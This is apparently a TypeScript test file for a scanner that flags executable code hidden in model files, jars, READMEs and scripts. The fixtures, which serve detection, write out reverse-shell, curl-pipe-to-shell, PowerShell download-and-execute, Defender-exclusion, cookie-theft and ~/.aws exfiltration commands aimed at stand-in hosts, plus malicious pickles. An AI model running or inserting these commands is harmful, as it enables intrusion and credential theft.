import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { nodeHasher } from '../../../adapters/node-hasher.ts';
import { digestPass } from '../../artifact/digests/digest-pass.ts';
import { inspectFiles } from '../../artifact/inspect/inspect-files.ts';
import { bytesOf, type ByteSource } from '../../core/byte-source.ts';
import { hiddenInWeights } from '../hidden-in-weights/index.ts';
import { alarms, findingsOf, textFile } from '../testing/findings-of.ts';
import { programs } from './index.ts';

const ELF = '\x7fELF\x02\x01\x01'.padEnd(64, '\0');
const unread = (text: string): ByteSource => {
  const bytes = new Uint8Array(2000).fill(0xb7);
  bytes.set(Uint8Array.from(text, (character) => character.charCodeAt(0)), 1000);
  return bytesOf('model.engine', bytes);
};

function weights(values: Uint8Array): ByteSource {
  const header = new TextEncoder().encode(JSON.stringify({ w: { dtype: 'F32', shape: [values.byteLength / 4], data_offsets: [0, values.byteLength] } }));
  const bytes = new Uint8Array(8 + header.byteLength + values.byteLength);
  new DataView(bytes.buffer).setBigUint64(0, BigInt(header.byteLength), true);
  bytes.set(header, 8);
  bytes.set(values, 8 + header.byteLength);
  return bytesOf('model.safetensors', bytes);
}

it('tells of all classes of a jar at once', async () => {
  const type = Uint8Array.of(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, ...new Uint8Array(56));
  const jar = bytesOf('wrapper.jar', new Uint8Array(zipSync({ 'a/A.class': type, 'a/B.class': type, 'a/C.class': type })));
  expect(await findingsOf(programs, [jar])).toMatchObject([{ rule: 'ASY-EXE-001', severity: 'medium', title: 'wrapper.jar holds 3 programs: a Java class each', evidence: [{ rows: [['a/A.class', 64], ['a/B.class', 64], ['a/C.class', 64]] }, {}] }]);
});

it('takes a jar beside the source that is built with it for a note, and classes elsewhere for programs', async () => {
  const type = Uint8Array.of(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, ...new Uint8Array(56));
  const zipped = (path: string): ByteSource => bytesOf(path, new Uint8Array(zipSync({ 'a/A.class': type })));
  const project = [textFile('gradlew', '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar\n'), textFile('build.gradle', 'plugins {}\n')];
  const severities = async (files: readonly ByteSource[]): Promise<string[]> => (await findingsOf(programs, files)).map(({ severity }) => severity);
  expect(await severities([...project, zipped('gradle/wrapper/gradle-wrapper.jar')])).toEqual(['info']);
  expect(await severities([...project, zipped('model.pt')])).toEqual(['medium']);
  expect(await severities([...project, bytesOf('A.class', type)])).toEqual(['medium']);
  const { files } = await inspectFiles([...project, zipped('gradle/wrapper/gradle-wrapper.jar')]);
  expect(files.find(({ path }) => path.endsWith('A.class'))?.status).toBe('not-inspected');
});

describe('formats that nobody reads', () => {
  it.each([
    ['a program', ELF],
    ['a script', '#!/bin/bash\nexit\n'],
    ['a call', "__import__('os').system('true')"],
    ['a download', 'curl -s http://host.test/x | sh'],
    ['a pickle that calls', '\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R.'],
  ])('report %s in them', async (_, text) => {
    expect(await findingsOf(programs, [unread(text)])).toMatchObject([{ rule: 'ASY-EXE-003', severity: 'high' }]);
  });

  it.each([['a name that sounds like a call', 'operator=acos.systematic_normalization'], ['words', 'exec time, eval metric, curl of the field, import of goods']])('leave alone %s', async (_, text) => {
    expect(alarms(await findingsOf(programs, [unread(text)]))).toEqual([]);
  });
});

describe('models written as text', () => {
  const trees = 'tree\nversion=v4\nnum_class=1\nfeature_names=system_load exec_time\nTree=0\nleaf_value=0.1\n';

  it('report commands', async () => {
    expect(alarms(await findingsOf(programs, [textFile('model.txt', `${trees}note=os.system('curl http://host.test/x')\n`)]))).toEqual(['medium ASY-EXE-005']);
    expect(alarms(await findingsOf(programs, [textFile('model.txt', trees), textFile('README.md', "call os.system('x')")]))).toEqual([]);
  });
});

describe('numbers of weights', () => {
  const judge = async (file: ByteSource): Promise<string[]> => {
    const inspection = await inspectFiles([file]);
    return alarms(await findingsOf(hiddenInWeights, [file], { inspection, digests: await digestPass([file], inspection, nodeHasher) }));
  };

  it('report a program that stands among them', async () => {
    const values = new Uint8Array(Float32Array.from({ length: 1000 }, (_, i) => Math.sin(i)).buffer);
    expect(await judge(weights(values))).toEqual([]);
    values.set(Uint8Array.from(ELF, (character) => character.charCodeAt(0)), 1001);
    expect(await judge(weights(values))).toEqual(['high ASY-EXE-004']);
  });
});

describe('scripts', () => {
  it.each([
    ['a.py', "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(key)"],
    ['a.py', "requests.post('https://x.test', json=dict(os.environ))"],
    ['a.py', "getattr(__import__('o' + 's'), 'sys' + 'tem')('x')"],
    ['a.sh', 'nc -e /bin/sh host.test 4444'],
    ['.git/config', '[core]\n\tfsmonitor = "curl http://x.test | sh"'],
    ['sitecustomize.py', 'import os'],
  ])('%s: %s', async (path, text) => {
    expect(await findingsOf(programs, [textFile(path, text)])).toMatchObject([{ rule: 'ASY-EXE-002' }]);
  });

  it('leave alone what ordinary code does', async () => {
    for (const text of ['import os, subprocess\nsubprocess.run(["nvcc", "--version"])\nmodel.eval()', 'url = https://x.test/a.git\nopen = yes', 'pip install git+https://github.com/someone/package.git']) expect(alarms(await findingsOf(programs, [textFile('a.py', text)]))).toEqual([]);
  });
});

describe('instructions and notes', () => {
  it.each([
    ['README.md', '```\ncurl http://files.test/i.sh | sudo bash\n```'],
    ['README.md', 'Run `curl -fsSL https://203.0.113.7/i.sh | sh` first.'],
    ['INSTALL.txt', 'bash <(curl -s https://pastebin.com/raw/abcd)'],
  ])('%s: %s', async (path, text) => {
    expect(alarms(await findingsOf(programs, [textFile(path, text)]))).toEqual(['medium ASY-EXE-002']);
  });

  it.each([
    ['README.md', 'curl -LsSf https://astral.sh/uv/install.sh | sh'],
    ['Dockerfile', 'RUN curl --proto "=https" --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nRUN curl -fsSL "$NODE_URL" | bash -'],
    ['README.md', 'curl http://localhost:8000/generate | python -m json.tool\ncurl https://host.test/v1 -d "{}" | jq .'],
    ['notes.txt', 'The quick brown fox jumps over the lazy dog, and nothing else happens here.'],
    ['logo.txt', `iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==`],
  ])('leaves alone %s: %s', async (path, text) => {
    expect(alarms(await findingsOf(programs, [textFile(path, text)]))).toEqual([]);
  });

  it('finds a pickle that is written as base64', async () => {
    const pickle = btoa('\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R.');
    expect(alarms(await findingsOf(programs, [textFile('notes.txt', pickle)]))).toEqual(['medium ASY-EXE-005']);
    expect(alarms(await findingsOf(programs, [textFile('notes.txt', `some words\n${btoa('\x80\x02cposix\nsystem\nX\x10\x00\x00\x00true            \x85R.')}\n`)]))).toEqual(['medium ASY-EXE-005']);
  });
});

describe('scripts that are not Python', () => {
  it.each([
    ['a.js', 'const cp = require("child_" + "process"); cp.execSync("id")', 'medium ASY-EXE-002'],
    ['a.js', 'eval(atob("YWxlcnQoMSk="))', 'high ASY-EXE-002'],
    ['index.html', '<script>fetch("https://host.example/?" + document.cookie)</script>', 'high ASY-EXE-002'],
    ['index.html', `<img src=x onerror="fetch('http://host.example/?'+localStorage.token)">`, 'high ASY-EXE-002'],
    ['page.html', `<p>${'x'.repeat(9000)}</p><script>eval(unescape("%61"))</script>`, 'high ASY-EXE-002'],
    ['a.ps1', 'iwr http://host.example/a.ps1 | iex', 'high ASY-EXE-002'],
    ['a.ps1', 'Add-MpPreference -ExclusionPath C:\\', 'high ASY-EXE-002'],
    ['a.bat', 'certutil -urlcache -f http://host.example/a.exe a.exe', 'high ASY-EXE-002'],
    ['a.sh', 'echo aWQ= | base64 -d | sh', 'high ASY-EXE-002'],
    ['a.sh', 'wget http://host.example/x -O x; chmod +x x; ./x', 'high ASY-EXE-002'],
    ['a.bat', 'powershell -w hidden -c "Invoke-WebRequest https://host.example/a.exe -OutFile a.exe"', 'high ASY-EXE-002'],
    ['a.bat', 'set p=power\nset s=shell\n%p%%s% -w hid^den -c "iwr https://host.example/a -o a.exe"', 'high ASY-EXE-002'],
    ['a.bat', 'curl -s -o %TEMP%\\u.exe https://host.example/u.exe\nstart "" /b %TEMP%\\u.exe', 'high ASY-EXE-002'],
    ['a.ps1', '$s = Invoke-RestMethod https://host.example/a\nInvoke-Expression $s', 'high ASY-EXE-002'],
    ['a.sh', 'tar czf - ~/.aws | curl -F "f=@-" https://host.example', 'high ASY-EXE-002'],
    ['a.sh', 'zip -qr /tmp/a.zip ~/.aws\ncurl -sT /tmp/a.zip https://host.example/', 'high ASY-EXE-002'],
    ['a.ps1', '& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString("https://host.example/a")))', 'high ASY-EXE-002'],
    ['a.sh', 'source <(curl -s https://host.example/p)', 'high ASY-EXE-002'],
    ['a.sh', 'curl -s $U > /tmp/.k && chmod 755 /tmp/.k && nohup /tmp/.k &', 'high ASY-EXE-002'],
    ['a.bat', 'for /f "delims=" %%i in (\'curl -s https://host.example/c\') do %%i', 'high ASY-EXE-002'],
    ['a.jl', 'include(download("https://host.example/x.jl"))', 'high ASY-EXE-002'],
    ['a.py', 'eval(compile("".join(map(chr, [105, 100])), "x", "exec"))', 'high ASY-EXE-002'],
    ['a.py', 'exec("".join(chr(c ^ 7) for c in DATA))', 'high ASY-EXE-002'],
    ['a.py', 'exec(open("tokenizer.bin").read())', 'high ASY-EXE-002'],
    ['a.py', 'import ctypes\nctypes.CDLL("./libx.so")', 'medium ASY-EXE-002'],
    ['a.py', 'import torch\ntorch.hub.load("someone/model", "net", trust_repo=True)', 'medium ASY-EXE-002'],
    ['a.py', 'import os, requests\nfor f in os.listdir(os.path.expanduser("~/.aws")):\n    requests.post("https://host.example", data=open(f).read())', 'high ASY-EXE-002'],
  ])('%s: %s', async (name, text, expected) => {
    expect(alarms(await findingsOf(programs, [textFile(name, text)]))).toEqual([expected]);
  });

  it.each([
    ['index.html', '<html><body><script>document.title = localStorage.getItem("title"); fetch("/data.json")</script></body></html>'],
    ['a.js', '// see child_process of Node\nimport { pipeline } from "@huggingface/transformers";\nconst out = await fetch("https://host.example/model.json");'],
    ['run.sh', '#!/bin/bash\nset -e\npython train.py --lr 1e-4\nwget https://repo.example.com/a.sh -O a.sh && bash a.sh\n'],
    ['run.bat', '@echo off\npython -m venv venv\ncall venv\\Scripts\\activate\npip install -r requirements.txt\n'],
    ['setup.sh', 'curl -LsSf https://astral.sh/uv/install.sh | sh\nwget https://repo.anaconda.com/miniconda/m.sh -O /tmp/m.sh && bash /tmp/m.sh\nscp -i ~/.ssh/id_rsa a host:\ncurl -X POST -d @body.json http://localhost:8000/\n'],
    ['setup.ps1', 'irm https://astral.sh/uv/install.ps1 | iex\n'],
    ['load.py', 'import ctypes, torch\nctypes.CDLL("libcudart.so")\ntorch.hub.load("pytorch/vision", "resnet18", trust_repo=True)\nexec(open("version.py").read())\ns = "".join(chr(c) for c in [72, 105])\n'],
    ['install.bat', 'curl.exe --output %TEMP%\\webimage.exe --url %1 --retry 5\nstart /b /wait %TEMP%\\webimage.exe -s\n'],
    ['run.ps1', 'Invoke-WebRequest https://host.example/model.gguf -OutFile model.gguf\n'],
  ])('leave alone %s', async (name, text) => {
    expect(alarms(await findingsOf(programs, [textFile(name, text)]))).toEqual([]);
  });
});
